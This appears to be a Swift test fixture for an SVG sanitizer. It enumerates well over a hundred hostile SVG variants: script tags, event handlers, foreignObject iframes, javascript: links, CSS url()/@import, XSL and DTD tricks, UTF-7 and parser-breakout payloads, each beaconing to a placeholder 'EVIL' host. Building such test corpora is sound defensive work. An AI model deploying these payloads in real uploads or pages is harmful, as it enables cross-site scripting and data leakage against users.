/// SVG files that do something when a browser opens them, or a page that holds their text. Each draws a path, too.
///
/// What they do is a request to `EVIL`, by a script (`SCRIPT`) or as an address.
package enum HostileIcons {
  package struct Icon: Sendable, CustomStringConvertible {
    package let name: String
    private let text: String
    package var description: String { name }

    fileprivate init(_ name: String, _ text: String) {
      self.name = name
      self.text = text
    }

    /// - Parameter url: the address of a server that nobody may ask.
    package func svg(asking url: String) -> String {
      text.replacing("SCRIPT", with: "new Image().src=`EVIL/ran`").replacing("EVIL", with: "\(url)/\(name)")
    }
  }

  package static let all: [Icon] = {
    var icons = contents.map { Icon($0.key, document($0.value)) }
    icons += roots.map { Icon($0.key, document("", root: $0.value)) }
    icons += prologues.map { Icon($0.key, document("", before: $0.value)) }
    icons += sheets.map { Icon("css-\($0.key)", document("<style>\($0.value)</style>")) }
    icons += sheets.map { Icon("cdata-\($0.key)", document("<style><![CDATA[\($0.value)]]></style>")) }
    icons += documents.map { Icon($0.key, $0.value) }
    return icons
  }()

  /// Icons that only say what the others do, in texts and names. They are accepted, and do nothing.
  package static let harmless: [Icon] = texts.map { Icon($0.key, document($0.value)) }

  private static let texts: KeyValuePairs<String, String> = [
    "text-title": "<title>&lt;/title>&lt;script>SCRIPT&lt;/script></title>",
    "text-desc": "<desc>javascript:SCRIPT url(EVIL/d)</desc>",
    "text-text": "<text>&lt;img src='EVIL/t' onerror='SCRIPT'> @import url(EVIL/t);</text>",
    "text-cdata": "<g><![CDATA[url(EVIL/c) SCRIPT]]></g>", "text-comment": "<!-- EVIL/c SCRIPT -->",
    "text-names": #"<g id="EVIL/i" class="SCRIPT" aria-label="javascript:SCRIPT" data-name="EVIL/n" role="EVIL/r"/>"#,
    "text-style": "<style>/* url(EVIL/s) */ .a{fill:red}</style>",
    "text-link": ##"<a href="#javascript:SCRIPT"><rect width="9" height="9" fill="none"/></a>"##,
  ]

  private static let namespaces = """
    xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" xmlns:s="http://www.w3.org/2000/svg" \
    xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" \
    xmlns:ev="http://www.w3.org/2001/xml-events"
    """

  private static func document(_ content: String, root: String = "", before: String = "") -> String {
    before + #"<svg width="24" height="24" viewBox="0 0 24 24" \#(namespaces) \#(root)>"# + content
      + #"<path id="p" d="M4 4h9v9z"/></svg>"#
  }

  /// XHTML that asks without a script or with one.
  private static let page =
    #"<body xmlns="http://www.w3.org/1999/xhtml" onload="SCRIPT"><img src="EVIL/img" onerror="SCRIPT"/></body>"#

  private static let contents: KeyValuePairs<String, String> = [
    // Scripts.
    "script": "<script>SCRIPT</script>", "script-prefix": "<s:script>SCRIPT</s:script>",
    "script-html": "<h:script>SCRIPT</h:script>", "script-upper": "<SCRIPT>SCRIPT</SCRIPT>",
    "script-href": #"<script href="EVIL"/>"#, "script-xlink": #"<script x:href="EVIL"/>"#,
    "script-data": #"<script href="data:text/javascript,SCRIPT"/>"#,
    "script-default": #"<script xmlns="http://www.w3.org/1999/xhtml">SCRIPT</script>"#,
    "script-cdata": "<script><![CDATA[SCRIPT]]></script>", "script-module": #"<script type="module">SCRIPT</script>"#,
    "script-in-title": "<title><script>SCRIPT</script></title>",
    "script-in-desc": "<desc><h:script>SCRIPT</h:script></desc>",
    "script-in-metadata": "<metadata><script>SCRIPT</script></metadata>",
    "script-in-defs": "<defs><script>SCRIPT</script></defs>",
    "script-in-switch": "<switch><script>SCRIPT</script></switch>",
    "script-in-style": "<style>a{}<script>SCRIPT</script></style>",
    "handler": #"<handler type="application/ecmascript" ev:event="load">SCRIPT</handler>"#,
    "listener": ##"<ev:listener event="load" handler="#h"/><handler id="h">SCRIPT</handler>"##,
    // Text that ends early where a page is read.
    "cdata-title": "<title><![CDATA[</title><img src='x' onerror='SCRIPT'>]]></title>",
    "cdata-desc": "<desc><![CDATA[</svg><script>SCRIPT</script>]]></desc>",
    "cdata-style": "<style><![CDATA[</style></svg><script>SCRIPT</script>]]></style>",
    "cdata-text": "<text><![CDATA[<img src='x' onerror='SCRIPT'>]]></text>",
    "cdata-group": "<g><![CDATA[<img src='x' onerror='SCRIPT'>]]></g>",
    "comment-short": "<!--><img src='x' onerror='SCRIPT'>-->",
    "comment-dash": "<!---><img src='x' onerror='SCRIPT'>-->",
    "comment-style": "<style><!--</style><img src='x' onerror='SCRIPT'>--></style>",
    "comment-title": "<title><!--</title><img src='x' onerror='SCRIPT'>--></title>",
    "instruction-inside": "<?x ><img src='x' onerror='SCRIPT'>?>",
    "breakout-img": #"<img src="EVIL/img" onerror="SCRIPT"/>"#,
    "breakout-p": #"<p><script>SCRIPT</script></p>"#, "breakout-table": #"<table background="EVIL/table"/>"#,
    "breakout-font": #"<font color="red"><img src="EVIL/font"/></font>"#,
    "breakout-math": "<math><annotation-xml encoding='text/html'><img src='EVIL/math'/></annotation-xml></math>",
    // Event attributes.
    "onclick": #"<rect onclick="SCRIPT" width="24" height="24" fill="none"/>"#,
    "onload-nested": #"<svg onload="SCRIPT"/>"#, "onload-use": ##"<use href="#p" onload="SCRIPT"/>"##,
    "onerror-image": #"<image href="data:image/png;base64,AAAA" onerror="SCRIPT"/>"#,
    "onload-image": """
    <image onload="SCRIPT" href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="/>
    """,
    "onfocus": ##"<a tabindex="0" autofocus="" onfocus="SCRIPT" href="#p"/>"##,
    "onbegin": #"<animate onbegin="SCRIPT" attributeName="x" dur="1s"/>"#,
    "onend": #"<g><set onend="SCRIPT" attributeName="x" to="0" dur="0.1s"/></g>"#,
    "onrepeat": #"<animate onrepeat="SCRIPT" attributeName="x" dur="0.1s" repeatCount="9"/>"#,
    "onbegin-prefix": #"<s:animate onbegin="SCRIPT" attributeName="x" dur="1s"/>"#,
    "onbegin-motion": #"<g><animateMotion onbegin="SCRIPT" path="M0 0" dur="1s"/></g>"#,
    // Animations that set something.
    "set-onload": #"<g><set attributeName="onload" to="SCRIPT"/></g>"#,
    "set-onclick": #"<g><set attributeName="onclick" to="SCRIPT"/><rect width="9" height="9"/></g>"#,
    "set-href": #"<image width="1" height="1"><set attributeName="href" to="EVIL/set"/></image>"#,
    "set-xlink": #"<image width="1" height="1"><set attributeName="xlink:href" to="EVIL/set"/></image>"#,
    "animate-href":
      #"<image width="1" height="1"><animate attributeName="href" values="EVIL/a;EVIL/b" dur="1s"/></image>"#,
    "set-link": #"<a><set attributeName="href" to="javascript:SCRIPT"/><rect width="9" height="9"/></a>"#,
    "mpath": #"<g><animateMotion dur="1s"><mpath href="EVIL/m#p"/></animateMotion></g>"#,
    // Pages in the drawing.
    "foreign-iframe": #"<foreignObject><h:iframe srcdoc="&lt;script>SCRIPT&lt;/script>"/></foreignObject>"#,
    "foreign-src": #"<foreignObject><h:iframe src="EVIL/frame"/></foreignObject>"#,
    "foreign-js": #"<foreignObject><h:iframe src="javascript:SCRIPT"/></foreignObject>"#,
    "foreign-data": #"<foreignObject><h:iframe src="data:text/html,&lt;script>SCRIPT&lt;/script>"/></foreignObject>"#,
    "foreign-object":
      #"<foreignObject><h:object data="data:text/html,&lt;script>SCRIPT&lt;/script>"/></foreignObject>"#,
    "foreign-embed": #"<foreignObject><h:embed src="EVIL/embed"/></foreignObject>"#,
    "foreign-body": "<foreignObject>\(page)</foreignObject>",
    "foreign-prefix": "<s:foreignObject>\(page)</s:foreignObject>",
    "foreign-upper": "<FOREIGNOBJECT>\(page)</FOREIGNOBJECT>",
    "foreign-switch": "<switch><foreignObject>\(page)</foreignObject></switch>",
    "foreign-srcset": #"<foreignObject><h:img srcset="EVIL/srcset 1x"/></foreignObject>"#,
    "foreign-style": "<foreignObject><h:style>@import url(EVIL/css);</h:style></foreignObject>",
    "foreign-refresh": #"<foreignObject><h:meta http-equiv="refresh" content="0;url=EVIL/refresh"/></foreignObject>"#,
    "foreign-svg": #"<foreignObject><svg xmlns="http://www.w3.org/2000/svg" onload="SCRIPT"/></foreignObject>"#,
    "html-iframe": #"<h:iframe src="EVIL/frame"/>"#, "html-object": #"<h:object data="EVIL/object"/>"#,
    "html-embed": #"<h:embed src="EVIL/embed"/>"#, "html-img": #"<h:img src="EVIL/img" onerror="SCRIPT"/>"#,
    "html-link": #"<h:link rel="stylesheet" href="EVIL/css"/>"#,
    "html-preload": #"<h:link rel="preload" as="image" imagesrcset="EVIL/srcset 1x"/>"#,
    "html-video": #"<h:video src="EVIL/video" autoplay="" onerror="SCRIPT"/>"#,
    "html-poster": #"<h:video poster="EVIL/poster"/>"#, "html-audio": #"<h:audio src="EVIL/audio" autoplay=""/>"#,
    "html-base": #"<h:base href="EVIL/"/><image href="x.png" width="1" height="1"/>"#,
    "html-refresh": #"<h:meta http-equiv="refresh" content="0;url=EVIL/refresh"/>"#,
    "html-style": "<h:style>@import url(EVIL/css);</h:style>",
    "html-default": #"<img xmlns="http://www.w3.org/1999/xhtml" src="EVIL/img" onerror="SCRIPT"/>"#,
    "html-input": #"<h:input type="image" src="EVIL/input"/>"#,
    "tiny-video": #"<video x:href="EVIL/video" src="EVIL/video"/>"#, "tiny-audio": #"<audio x:href="EVIL/audio"/>"#,
    "iframe-svg": #"<iframe src="EVIL/frame"/>"#,
    // Links.
    "link-js": #"<a href="javascript:SCRIPT"><rect width="9" height="9"/></a>"#,
    "link-case": #"<a x:href=" JavaScript:SCRIPT"><rect width="9" height="9"/></a>"#,
    "link-entity": #"<a href="java&#10;script&#58;SCRIPT"><rect width="9" height="9"/></a>"#,
    "link-vbscript": #"<a href="vbscript:SCRIPT"><rect width="9" height="9"/></a>"#,
    "link-data": #"<a href="data:text/html,&lt;script>SCRIPT&lt;/script>"><rect width="9" height="9"/></a>"#,
    "link-feed": #"<a href="feed:javascript:SCRIPT"><rect width="9" height="9"/></a>"#,
    "link-source": #"<a href="view-source:EVIL/"><rect width="9" height="9"/></a>"#,
    "link-jar": #"<a href="jar:EVIL/a.jar!/x.html"><rect width="9" height="9"/></a>"#,
    "link-blob": #"<a href="blob:EVIL/1"><rect width="9" height="9"/></a>"#,
    "link-http": #"<a href="EVIL/link" target="_blank" ping="EVIL/ping"><rect width="9" height="9"/></a>"#,
    "link-html": #"<h:a href="javascript:SCRIPT">a</h:a>"#,
    // Addresses of pictures and parts.
    "image-http": #"<image href="EVIL/image" width="1" height="1"/>"#,
    "image-xlink": #"<image x:href="EVIL/image" width="1" height="1"/>"#,
    "image-relative": #"<image href="//EVIL.invalid/image" width="1" height="1"/>"#,
    "image-svg":
      #"<image href="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='SCRIPT'/>" width="1" height="1"/>"#,
    "image-html": #"<image href="data:text/html,&lt;script>SCRIPT&lt;/script>" width="1" height="1"/>"#,
    "image-type": #"<image href="data:image/png;base64,PHN2Zz5FVklMPC9zdmc+" width="1" height="1"/>"#,
    "image-src": #"<image src="EVIL/src" width="1" height="1"/>"#,
    "image-base": #"<g xml:base="EVIL/"><image href="x.png" width="1" height="1"/></g>"#,
    "use-http": #"<use href="EVIL/use.svg#a"/>"#,
    "use-data":
      #"<use href="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' id='a' onload='SCRIPT'/>#a"/>"#,
    "fe-image": #"<filter id="f"><feImage href="EVIL/fe"/></filter><rect width="1" height="1" filter="url(#f)"/>"#,
    "gradient-href": #"<linearGradient id="g" href="EVIL/g#a"/><rect width="1" height="1" fill="url(#g)"/>"#,
    "pattern-href": #"<pattern id="g" x:href="EVIL/g#a"/><rect width="1" height="1" fill="url(#g)"/>"#,
    "text-path": #"<text><textPath href="EVIL/t#a">a</textPath></text>"#,
    "tref": #"<text><tref x:href="EVIL/t#a"/></text>"#,
    "cursor": ##"<cursor id="c" x:href="EVIL/c"/><rect width="9" height="9" cursor="url(#c)"/>"##,
    "profile": #"<color-profile name="c" x:href="EVIL/c"/>"#,
    "font-face": #"<font-face><font-face-src><font-face-uri x:href="EVIL/f#a"/></font-face-src></font-face>"#,
    "include": #"<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="EVIL/i"/>"#,
    // Addresses in attributes that are CSS.
    "fill": ##"<rect width="1" height="1" fill="url(EVIL/f#a)"/>"##,
    "filter": ##"<rect width="1" height="1" filter="url('EVIL/f#a')"/>"##,
    "mask": ##"<rect width="1" height="1" mask="url(EVIL/m#a)"/>"##,
    "clip": ##"<rect width="1" height="1" clip-path="URL( &quot;EVIL/c#a&quot; )"/>"##,
    "marker": ##"<path d="M0 0h1" stroke="red" marker-start="url(EVIL/m#a)"/>"##,
    "escaped": ##"<rect width="1" height="1" mask="u\72l(EVIL/m#a)"/>"##,
    "cursor-attribute": #"<rect width="9" height="9" cursor="url(EVIL/c),auto"/>"#,
    "style-attribute": #"<rect width="1" height="1" style="mask:url(EVIL/m)"/>"#,
    "style-background": #"<h:p style="background:url(EVIL/b)">a</h:p>"#,
    "style-entity": #"<rect width="1" height="1" style="mask:&#117;rl(EVIL/m)"/>"#,
  ]

  /// Attributes of the root.
  private static let roots: KeyValuePairs<String, String> = [
    "onload": #"onload="SCRIPT""#, "onload-entity": ##"onload="&#110;ew Image().src=`EVIL/ran`""##,
    "onload-upper": #"ONLOAD="SCRIPT""#, "onresize": #"onresize="SCRIPT" onunload="SCRIPT""#,
    "onmouseover": #"onmouseover="SCRIPT""#, "onfocusin": #"tabindex="1" autofocus="" onfocusin="SCRIPT""#,
    "root-style": #"style="background:url(EVIL/b)""#, "root-image": #"style="background-image:image-set('EVIL/b' 1x)""#,
    "root-list": #"style="list-style:url(EVIL/l);display:list-item""#, "root-base": #"xml:base="EVIL/""#,
    "root-cursor": #"style="cursor:url(EVIL/c),auto""#, "root-mask": #"style="-webkit-mask:url(EVIL/m)""#,
    "root-border": #"style="border-image:url(EVIL/b) 1;border:1px solid""#,
    "root-x": #"x-data="SCRIPT" data-hx-get="EVIL""#,
  ]

  /// What stands before the root.
  private static let prologues: KeyValuePairs<String, String> = [
    "pi-xsl-data": """
    <?xml-stylesheet type="text/xsl" href="data:text/xml,%3Cxsl:stylesheet version='1.0' \
    xmlns:xsl='http://www.w3.org/1999/XSL/Transform'%3E%3Cxsl:template match='/'%3E%3Cscript \
    xmlns='http://www.w3.org/1999/xhtml'%3ESCRIPT%3C/script%3E%3C/xsl:template%3E%3C/xsl:stylesheet%3E"?>
    """,
    "pi-xsl-http": #"<?xml-stylesheet type="text/xsl" href="EVIL/xsl"?>"#,
    "pi-xsl-local": ##"<?xml-stylesheet type="text/xsl" href="#p"?>"##,
    "pi-css": #"<?xml-stylesheet type="text/css" href="EVIL/css"?>"#,
    "pi-css-data": #"<?xml-stylesheet href="data:text/css,@import url(EVIL/css);"?>"#,
    "pi-declared": #"<?xml version="1.0"?><?xml-stylesheet href="EVIL/css"?>"#,
    "dtd-external": #"<!DOCTYPE svg SYSTEM "EVIL/dtd">"#,
    "dtd-attribute": #"<!DOCTYPE svg [<!ATTLIST svg onload CDATA "SCRIPT">]>"#,
    "dtd-entity": #"<!DOCTYPE svg [<!ENTITY e "a"><!ATTLIST path onload CDATA "SCRIPT">]>"#,
    "dtd-instruction": #"<!DOCTYPE svg [<?xml-stylesheet href="EVIL/css"?>]>"#,
    "comment-before": "<!--><img src='x' onerror='SCRIPT'>-->",
  ]

  /// Style sheets, which stand in a `style` element as text and as CDATA.
  private static let sheets: KeyValuePairs<String, String> = [
    "import-url": "@import url(EVIL/css);", "import-text": "@import 'EVIL/css';",
    "import-escaped": #"@\69mport 'EVIL/css';"#, "import-late": "a{} @import 'EVIL/css'; @charset 'x';",
    "import-comment": "/* a */@import/**/'EVIL/css';",
    "font": "@font-face{font-family:a;src:url(EVIL/font)} svg{font-family:a} @media all{*{font-family:a}}",
    "background": "svg{background:url(EVIL/b)}", "quoted": "svg{background:url('EVIL/b')}",
    "escaped": #"svg{background:u\72l(EVIL/b)}"#, "upper": "svg{BACKGROUND:URL(EVIL/b)}",
    "image-set": "svg{background:-webkit-image-set('EVIL/b' 1x)}", "media": "@media all{svg{background:url(EVIL/b)}}",
    "supports": "@supports (color:red){svg{background:url(EVIL/b)}}", "layer": "@layer a{svg{background:url(EVIL/b)}}",
    "nested": "svg{&{background:url(EVIL/b)}}", "custom": "svg{--a:url(EVIL/b);background:var(--a)}",
    "keyframes": "@keyframes a{to{background:url(EVIL/b)}} svg{animation:a 1s infinite;background:url(EVIL/b)}",
    "cursor": "svg{cursor:url(EVIL/c),auto}", "mask": "path{mask:url(EVIL/m#a)}",
    "content": "svg::before{content:url(EVIL/c)}",
    "unclosed": "svg{background:url(EVIL/b)", "stray": "}svg{background:url(EVIL/b)}",
    "string": "a{font-family:'\n}svg{background:url(EVIL/b)}'}", "paren": "a{b:(;}svg{background:url(EVIL/b)}",
    "selector": "[a='}svg{background:url(EVIL/b)}']{fill:red}svg{background:url(EVIL/b)}",
  ]

  /// Whole documents.
  private static let documents: KeyValuePairs<String, String> = [
    "prefixed": """
    <s:svg width="24" height="24" viewBox="0 0 24 24" xmlns:s="http://www.w3.org/2000/svg" onload="SCRIPT">\
    <s:path d="M4 4h9v9z"/><style>@import url(EVIL/css);</style><img src="EVIL/img"/></s:svg>
    """,
    "no-namespace": """
    <svg width="24" height="24" viewBox="0 0 24 24"><style>@import url(EVIL/css);</style>\
    <image href="EVIL/i" width="1" height="1"/><path d="M4 4h9v9z"/></svg>
    """,
    "lying-prefix": """
    <svg width="24" height="24" viewBox="0 0 24 24" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="urn:none">\
    <image xlink:href="EVIL/i" width="1" height="1"/><path d="M4 4h9v9z"/></svg>
    """,
    "html-root":
      #"<html xmlns="http://www.w3.org/1999/xhtml"><svg xmlns="http://www.w3.org/2000/svg" onload="SCRIPT"/></html>"#,
    "after": """
    <svg width="24" height="24" viewBox="0 0 24 24" xmlns="http://www.w3.org/2000/svg"><path d="M4 4h9v9z"/></svg>
    <?xml-stylesheet href="EVIL/css"?><!--><img src='x' onerror='SCRIPT'>-->
    """,
    "utf-7": """
    <?xml version="1.0" encoding="UTF-7"?><svg width="24" height="24" viewBox="0 0 24 24" \
    xmlns="http://www.w3.org/2000/svg">+ADw-script+AD4-SCRIPT+ADw-/script+AD4-<path d="M4 4h9v9z"/></svg>
    """,
    "latin": """
    <?xml version="1.0" encoding="iso-2022-jp"?><svg width="24" height="24" viewBox="0 0 24 24" \
    xmlns="http://www.w3.org/2000/svg"><desc>\u{1B}$B</desc><script>SCRIPT</script><path d="M4 4h9v9z"/></svg>
    """,
  ]
}
